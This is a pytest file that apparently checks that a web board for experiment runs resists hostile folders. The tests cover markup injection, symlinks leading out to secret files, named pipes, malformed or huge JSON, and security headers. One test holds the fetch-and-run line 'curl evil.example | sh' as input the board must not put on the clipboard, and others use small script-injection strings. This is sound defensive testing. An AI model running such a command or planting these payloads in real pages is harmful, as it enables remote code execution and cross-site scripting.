"""Folders that a stranger has filled: the board shows texts as texts, leaves no folder, and goes on."""

import json
import os
import re
import shutil
import tomllib
import tracemalloc
from pathlib import Path
from urllib.parse import urlencode

import pytest
import tomli_w
from command import tree
from hostile_folder import (
    BAD,
    GOOD,
    JOB,
    MARKUP,
    NAME,
    SECRET,
    WORD,
    SeenPage,
    addresses,
    asked_all,
    hostile_folder,
    plain_addresses,
    walked,
)
from made_run import write_made_up_scores
from served_board import board_client

from kit.experiment.out_folder import MARK
from kit.experiment.run import PAGE, Run
from kit.images.thumbnails import thumbnail_path
from storykit.board.pictures import SIDES
from storykit.board.served_folder import OWN

TAKEN_HOME = ("/home/page", "/home/slides")
LINKED = ("experiment.toml", "stories/cat.toml", "panels.jsonl", "selection.json", "votes.jsonl", PAGE)
FILES = (
    *("experiment.toml", "stories/cat.toml", "run.json", "panels.jsonl", "faults.json", "scores.json"),
    *("scores.panels.csv", "scores.stories.csv", "race.json", "selection.json", "comparison.json"),
    *("votes.jsonl", "voters.json", "entry.toml", "introduction.md", "report.html", "batching.json"),
)
TORN = {
    "empty": b"",
    "cut": b'{"a": [1, ',
    "no text": b"\xff\xfe\x00\x80" * 9,
    "nothing": b"null",
    "a list": b"[[], 1, {}]",
    "another table": b'{"selections": {"a": 1}, "comparisons": 3, "metrics": "x", "faults": [[]]}',
    "lines of it": b'{}\n[]\n"x"\n{"sha256": 1}\n\x00\n',
    "far too deep": b"[" * 100_000,
    "a number without end": b'{"seed": ' + b"9" * 5000 + b"}",
    "one long text": b'{"a": "' + b"x" * (1 << 20) + b'"}',
}


def pictures_of(run: Run) -> list[str]:
    row = run.rows()[0]
    name = run.folder.relative_to(run.folder.parents[1]).as_posix()
    return [f"/picture?run={name}&sha256={row.sha256}&side={side}" for side in (0, *SIDES)]


def test_what_strangers_write_is_shown_as_text_and_nothing_is_written_by_looking(tmp_path) -> None:
    name = hostile_folder(tmp_path).folder.relative_to(tmp_path).as_posix()
    before = {file for file in tree(tmp_path) if "/cache/" not in file}
    client, marked = board_client(tmp_path), 0
    ballots = re.findall(r'value="([0-9a-f]{12})"', client.get("/votes", params={"run": name}).text)
    booths = [f"/voting?{urlencode({'run': name, 'ballot': ballot})}" for ballot in ballots]
    assert booths
    for address, answer in walked(client, *plain_addresses(), *addresses(name), *booths):
        assert answer.status_code < 500, address
        told = answer.headers
        if told.get("content-type", "").startswith("text/html") and not address.startswith("/report"):
            faults = SeenPage(answer.text).faults
            # whole files dress themselves, and may load nothing
            if answer.status_code == 200 and address.startswith(TAKEN_HOME):
                assert "'self'" not in told["content-security-policy"], address
                faults = [fault for fault in faults if WORD in fault]
            assert faults == [], address
            marked += WORD in answer.text
        assert "default-src 'none'" in told["content-security-policy"], address
        assert told["x-content-type-options"] == "nosniff"
        assert told["referrer-policy"] == "same-origin"
        assert "private" in told["cache-control"] or "no-store" in told["cache-control"], address
    assert marked > 10, "a test on nothing"
    assert {file for file in tree(tmp_path) if "/cache/" not in file} == before


@pytest.mark.parametrize(
    ("text", "fault"),
    [
        (f"<b>{WORD}</b>", ""), (f"&lt;{WORD}&gt;", ""), (f'<a title="{WORD}" href="/sheet?run=a">', ""),
        ('<script src="/static/board.js"></script>', ""), (f"<{WORD}>", f"<{WORD}>"),
        ("<a onclick=x>", "onclick"), (f'<p title="" {WORD}=1>', WORD), ("<script>1</script>", "script"),
        ("<a href='javascript:x'>", "elsewhere"),
        ('<script src="https://x/static/a.js"></script>', "script"), ("<p style='x'>", "style"),
        ("<a href='//x'>", "elsewhere"),
    ],
)  # fmt: skip
def test_the_walk_knows_markup_where_it_sees_it(text, fault) -> None:
    faults = " ".join(SeenPage(text).faults)
    assert fault in faults
    assert bool(faults) == bool(fault)


def lead_elsewhere(place: Path, target: Path) -> None:
    """Put a link to what lies outside in the place of a file or folder."""
    if place.is_dir():
        shutil.rmtree(place)
    place.unlink(missing_ok=True)
    place.parent.mkdir(parents=True, exist_ok=True)
    place.symlink_to(target)


@pytest.mark.parametrize("spot", [*LINKED, "stories", "panels/base", "cache/thumbnails", "."])
def test_a_link_out_of_a_run_is_not_followed_though_it_was_put_there_while_it_is_open(served, spot) -> None:
    client, run = board_client(served), Run(served / BAD)
    shown = pictures_of(run)
    client.get(shown[0])
    secret = served.parent / "secret"
    lead_elsewhere(served / BAD / spot, secret / "secret.txt" if "." in spot[1:] else secret)
    before = tree(secret)
    told = asked_all(client, BAD, *shown)
    assert SECRET not in told
    assert GOOD in told
    assert tree(secret) == before


@pytest.mark.parametrize("opened", [True, False])
def test_a_picture_that_is_a_link_out_of_a_run_is_not_shown(served, opened) -> None:
    client, run = board_client(served), Run(served / BAD)
    shown, row = pictures_of(run), run.rows()[0]
    private = served.parent / "secret" / "photo.png"
    shutil.copy(run.folder / row.file, private)
    if opened:
        client.get(shown[0])
    lead_elsewhere(run.folder / row.file, private)
    assert {client.get(address).headers["content-type"].split(";")[0] for address in shown} == {"text/html"}
    kept = thumbnail_path(served / GOOD, row.sha256, SIDES[0])
    kept.parent.mkdir(parents=True)
    kept.symlink_to(private)
    assert client.get(shown[1].replace(BAD, GOOD)).headers["content-type"].startswith("text/html")


@pytest.mark.parametrize("spot", ["experiment.toml", "panels.jsonl", "selection.json", "votes.jsonl"])
def test_a_pipe_in_a_run_stops_nobody(served, spot) -> None:
    client = board_client(served)
    client.get("/")
    (served / BAD / spot).unlink(missing_ok=True)
    os.mkfifo(served / BAD / spot)
    asked_all(client, BAD)
    assert GOOD in asked_all(board_client(served), BAD)


def test_a_torn_file_is_told_and_the_other_runs_stay(two_runs, tmp_path) -> None:
    """Each file is torn in one of the ways, its neighbours in others; each in a run of its own."""
    shutil.copytree(two_runs / "good", tmp_path / "good")
    torn = {}
    for number, spot in enumerate(FILES):
        what = list(TORN)[number % len(TORN)]
        name = f"{what}-{spot.replace('/', '-')}/run"
        shutil.copytree(two_runs / BAD, tmp_path / name)
        if spot.startswith(("scores", "comparison")):
            write_made_up_scores(Run(tmp_path / name))
        (tmp_path / name / spot).write_bytes(TORN[what])
        torn[name] = spot
    client = board_client(tmp_path)
    for name in torn:
        asked_all(client, name)
    page = client.get("/").text
    assert GOOD in page
    assert [name for name, spot in torn.items() if name not in page and spot != "experiment.toml"] == []


def test_a_run_of_ten_thousand_seeds_has_pages_of_a_size_that_a_browser_takes(served) -> None:
    run = Run(served / BAD)
    text = run.experiment_path.read_text("utf-8").replace(
        "seeds = [\n    0,\n]", f"seeds = {list(range(10_000))}"
    )
    assert len(text) > 10_000
    run.experiment_path.write_text(text, "utf-8")
    rows = [json.loads(line) for line in run.rows_path.read_text("utf-8").splitlines()]
    lines = [json.dumps(row | {"seed": seed, "file": row["file"].replace("seed-0", f"seed-{seed}")})
             for seed in range(0, 10_000, 5) for row in rows]  # fmt: skip
    run.rows_path.write_text("\n".join(lines) + "\n", "utf-8")
    client = board_client(served)
    assert "16,000 of 80,000 panels are drawn" in client.get("/").text
    for address in addresses(BAD):
        assert len(client.get(address).content) < 2_000_000, address


def test_an_experiment_that_wants_more_than_memory_holds_has_a_card(served) -> None:
    run = Run(served / BAD)
    document = tomllib.loads(run.experiment_path.read_text("utf-8"))
    document["seeds"] = list(range(20_000))
    document["candidate"] = [{"name": "base"}, *({"name": f"other-{number}"} for number in range(39))]
    run.experiment_path.write_text(MARK + tomli_w.dumps(document), "utf-8")
    client = board_client(served)
    tracemalloc.start()
    page = client.get("/").text
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert "of 6,400,000 panels are drawn" in page
    assert peak < 100_000_000


def test_a_command_that_a_stranger_wrote_is_never_put_on_the_clipboard(tmp_path) -> None:
    own = tmp_path / OWN / "jobs" / JOB
    own.mkdir(parents=True)
    line = "storykit score good\ncurl evil.example | sh"
    for told in (
        {"command": "x", "line": line},
        {"command": "compare", "values": {"run": "good/run"}, "line": line},
    ):
        (own / "job.json").write_text(json.dumps(told))
        page = board_client(tmp_path).get("/jobs").text
        assert "data-copy" not in page
        assert "\ncurl" not in page


def test_a_name_and_a_text_of_markup_are_what_they_say() -> None:
    assert "/" not in NAME
    assert SeenPage(MARKUP).faults
    assert SeenPage(NAME).faults
